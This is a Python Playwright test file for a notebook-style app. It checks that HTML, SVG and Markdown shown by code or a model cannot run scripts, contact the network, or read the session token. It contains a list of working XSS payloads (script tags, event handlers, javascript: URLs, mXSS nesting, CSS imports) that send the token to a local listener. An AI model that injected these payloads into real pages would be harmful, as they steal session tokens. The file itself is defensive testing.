"""What code shows and what a model says can neither run scripts in the page, nor send anything, nor read the token."""

from __future__ import annotations

import sys
import threading
from collections.abc import Callable, Generator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, expect
from tests.front.server.served import Served

pytestmark = [
    pytest.mark.safety,
    pytest.mark.browser,
    pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's"),
]
expect.set_options(timeout=60_000)
SCRIPT = "top.pwned = 1; fetch('{url}/?t=' + top.sessionStorage.getItem('pinfold-token'))"
HOSTILE = (
    "<script>{script}</script>",
    '<img src="{url}/a.png" onerror="{script}">',
    '<img src=x onerror="{script}">',
    '<svg onload="{script}"><image href="{url}/b.png"/></svg>',
    '<iframe src="{url}/c"></iframe>',
    '<iframe srcdoc="<script>{script}</script>"></iframe>',
    '<iframe src="javascript:{script}"></iframe>',
    '<object data="{url}/d"></object><embed src="{url}/e">',
    '<link rel="stylesheet" href="{url}/f.css"><style>@import url("{url}/g.css"); body {{ background: url("{url}/h.png") }}</style>',
    '<div style="background: url({url}/i.png)">x</div>',
    '<meta http-equiv="refresh" content="0; url={url}/j">',
    '<base href="{url}/"><img src="k.png">',
    '<video src="{url}/l.mp4" autoplay></video><audio src="{url}/m.mp3" autoplay></audio>',
    '<details open ontoggle="{script}"><summary>x</summary></details>',
    '<form action="{url}/n"><input autofocus onfocus="{script}"></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{script}"></style></mglyph></table></mtext></math>',
    '<table class="dataframe"><thead><tr><th>a</th></tr></thead><tbody><tr><td><b onclick="{script}">x</b></td></tr></tbody></table>',
    '<link rel="prefetch" href="{url}/o"><link rel="dns-prefetch" href="{url}"><link rel="preconnect" href="{url}">',
    '<a href="javascript:{script}" id="x">x</a><script src="{url}/p.js"></script>',
    '![x]({url}/q.png) [y](javascript:{script}) <img src="{url}/r.png">',
)


class Listener(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.asked: list[str] = []
        self.heard = threading.Event()


class Answer(BaseHTTPRequestHandler):
    server: Listener  # pyright: ignore[reportIncompatibleVariableOverride]

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.server.heard.set()
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture
def listener() -> Generator[Listener]:
    """Where hostile content wants to send things."""
    server = Listener()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def hostile(listener: Listener) -> list[str]:
    url = f"http://127.0.0.1:{listener.server_port}"
    return [text.format(url=url, script=SCRIPT.format(url=url).replace('"', "&quot;")) for text in HOSTILE]


def test_hostile_displays_and_answers_do_nothing(
    context: BrowserContext, serve: Callable[..., Served], listener: Listener
) -> None:
    texts = hostile(listener)
    served = serve("keyboard")
    context.add_init_script(f"if (top === self) sessionStorage.setItem('pinfold-token', '{served.token}')")
    code = f"""
class Shown:
    def __init__(self, kind, text):
        self.bundle = {{kind: text}}
    def _repr_mimebundle_(self, include=None, exclude=None):
        return self.bundle
for text in {texts!r}:
    for kind in ("text/html", "image/svg+xml", "text/markdown"):
        display(Shown(kind, text))
    print(text)
"""
    with served.client() as client:
        session = client.post("/api/sessions", json={}).json()["id"]
    page = context.new_page()
    page.goto(f"{served.url}/#/{session}")
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_label("Python to run").fill(code)
    page.keyboard.press("Control+Enter")
    conversation = page.get_by_label("Conversation")
    page.set_viewport_size({"width": 1280, "height": 30_000})  # what is far from the screen is not in the page
    expect(conversation.locator("figure img")).to_have_count(len(texts))
    expect(conversation.locator("iframe.html-display")).to_have_count(len(texts) - 1)  # one is a data frame
    assert all(
        one == ""
        for one in conversation.locator("iframe").evaluate_all("all => all.map(one => one.getAttribute('sandbox'))")
    )
    assert page.evaluate("[window.pwned, document.title]") == [None, page.title()]
    assert listener.asked == []


def test_the_same_content_does_something_in_an_ordinary_page(context: BrowserContext, listener: Listener) -> None:
    """The control."""
    page = context.new_page()
    for text in hostile(listener)[:4]:
        page.set_content(f"<!doctype html><title>x</title>{text}")
    page.wait_for_function("window.pwned === 1")
    assert listener.heard.wait(60)
